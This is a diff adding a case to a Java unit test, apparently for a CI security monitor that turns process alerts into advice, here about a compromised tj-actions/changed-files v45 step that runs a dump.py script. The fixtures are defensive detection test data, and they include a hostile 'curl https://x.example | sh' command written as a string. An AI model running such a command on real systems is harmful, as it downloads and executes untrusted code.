@@ -144,6 +144,13 @@ final class AdviceTest {
         int shell = process(node, "bash", "bash -c curl https://x.example | sh", 1, -1);
         alert(Priority.ERROR, "One", process(shell, "cat", "cat x", 1, -1));
         assertThat(advice()).singleElement().asString().startsWith("Look at what cat did in Changed files");
+        // Its own file does it, by whatever it was started.
+        alerts.clear();
+        rules.clear();
+        String dump = "python3 /w/_actions/tj-actions/changed-files/v45/dump.py";
+        int started = process(node, "bash", "bash -c " + dump, 1, -1);
+        alert(Priority.ERROR, "One", process(started, "python3", dump, 1, -1));
+        assertThat(advice()).singleElement().asString().startsWith("Stop using tj-actions/changed-files at v45");
     }
 
     @Test
